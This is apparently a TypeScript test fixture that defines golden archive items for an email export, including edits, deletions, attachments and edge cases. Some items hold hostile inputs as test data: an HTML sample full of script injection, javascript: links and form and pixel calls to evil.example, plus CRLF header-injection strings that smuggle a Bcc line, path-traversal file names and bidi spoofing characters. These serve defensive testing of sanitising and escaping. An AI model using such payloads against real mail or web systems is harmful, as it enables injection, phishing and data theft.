import type { ArchiveItem } from '../../../shared/archive/state/item.ts';
import { ada, aFile, anItem, grace } from './compositions.ts';

const before = {
  author: ada,
  at: new Date('2026-11-20T09:30:00Z'),
  text: 'Shall we meet at nine?\n\n> said the clock',
};
const original = 'b2'.repeat(32);

const hostile =
  'A "b" <c>;\r\nBcc: eve@example.net\r\n\r\n../../d\0\u202e\u2066\ud800 =?utf-8?Q?e?=';

/** What each golden file in test/fixtures/email is composed of. */
export const goldenItems: Record<string, ArchiveItem> = {
  plain: anItem(),
  reply: anItem({ parentKey: original, text: 'At noon, then.' }),
  hostileHtml: anItem({
    text: 'Hello Bob, look',
    html: `<p onclick="steal()">Hello <spark-mention data-object-id="x">Bob</spark-mention>,
<a href="javascript:steal()">one</a> <a href="JaVa\tScRiPt:steal()">two</a>
<a href="//evil.example">three</a> <a href="https://example.com/?a=1&b=2" target="_top">four</a>
<img src="https://evil.example/pixel.gif" alt="a cat &lt;3" onerror="steal()">
<script>steal()</script><style>p { display: none }</style><svg><script>steal()</script></svg>
<form action="https://evil.example"><input name="password"><button>Go</button></form>
<iframe src="https://evil.example">inside</iframe><math><mi>x</mi></math>
<div style="background: url(https://evil.example)">styled &#8238;txt.exe</div>
<table background="https://evil.example/b.png"><tr><td colspan="2">cell</td></tr></table>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">
<!-- <b>comment</b> --><b>never closed`,
  }),
  edit: anItem({
    event: 'edited',
    quote: before,
    changesKey: original,
    parentKey: 'c3'.repeat(32),
    html: '<p>Shall we meet at <b>noon</b>?</p>',
  }),
  deletion: anItem({
    event: 'deleted',
    author: grace,
    mentioned: [ada],
    participants: [grace],
    text: '',
    quote: before,
    changesKey: original,
    notes: ['The message was deleted by a moderator of the space.'],
  }),
  supplement: anItem({
    event: 'supplemented',
    text: '',
    quote: before,
    changesKey: original,
    files: [aFile('notes.txt', 'What the lock kept.\n')],
  }),
  fileOnly: anItem({
    text: '',
    files: [
      aFile('Größenplan 😀.pdf', '%PDF-1.7 \u0000\u0001', {
        contentType: 'application/pdf',
      }),
    ],
  }),
  severalFiles: anItem({
    files: [
      aFile('plan.txt', 'one'),
      aFile('Plan.txt', 'two', { contentType: 'TEXT/Plain; charset=utf-16' }),
      aFile('empty.bin', '', { contentType: 'application/octet-stream' }),
      aFile('mail.eml', 'From: eve@example.net\r\n\r\nHi', {
        contentType: 'message/rfc822',
      }),
      aFile(`${'long name '.repeat(40)}.docx`, 'five', { contentType: 'nonsense' }),
    ],
  }),
  missingFile: anItem({
    html: '<p>See the film.</p>',
    missing: [
      {
        name: 'film.mp4',
        bytes: 734003200,
        sha256: 'd4'.repeat(32),
        reason: 'The file is larger than 150 MB.',
      },
      { name: '../locked.docx', reason: 'Webex had not scanned the file after 7 days.' },
    ],
    partial: 'A part of the text could not be decrypted.',
  }),
  hostile: anItem({
    itemId: hostile,
    conversation: { id: hostile, name: hostile },
    author: { id: hostile, name: hostile, address: 'a@b>\r\nBcc: eve@example.net' },
    participants: [
      { id: 'plain.id', name: hostile, address: 'not an address' },
      { id: 'jörg', name: 'Jörg', address: 'jörg@example.com' },
      { id: 'idn', name: 'مرحبا', address: 'user@bücher.example' },
      { id: '', name: '' },
      { id: 'twice', name: 'Grace', address: 'GRACE@example.com' },
      grace,
    ],
    event: 'edited',
    quote: { author: { id: hostile, name: hostile }, at: before.at, text: hostile },
    text: `${hostile}\rlone CR\n--_archive-${'a1'.repeat(16)}-Part_1--\n.\nFrom here`,
    html: hostile,
    files: [
      aFile(hostile, 'x', { contentType: hostile }),
      aFile('..', 'y'),
      aFile('', 'z'),
    ],
    missing: [{ name: hostile, reason: hostile }],
    notes: [hostile],
    partial: hostile,
  }),
  long: anItem({
    itemId: 'i'.repeat(10_000),
    conversation: { id: 'c'.repeat(10_000), name: 'n'.repeat(10_000) },
    author: { id: 'u'.repeat(10_000), name: '😀'.repeat(5_000) },
    text: 'Ὀδυσσεύς 😀 '.repeat(770),
    files: [aFile(`${'ä'.repeat(10_000)}.txt`, 'x')],
  }),
  rightToLeft: anItem({
    conversation: { id: 'room-2', name: 'שלום עולם' },
    text: 'مرحبا (123) \u200fabc\u200f 👩‍👩‍👧‍👦',
    html: '<p>مرحبا (123) 👩‍👩‍👧‍👦</p>',
  }),
  empty: anItem({
    conversation: { id: 'room-3', name: ' \u202e\r\n ' },
    author: { id: 'bot-9' },
    participants: [{ id: 'bot-9' }],
    text: '',
  }),
};
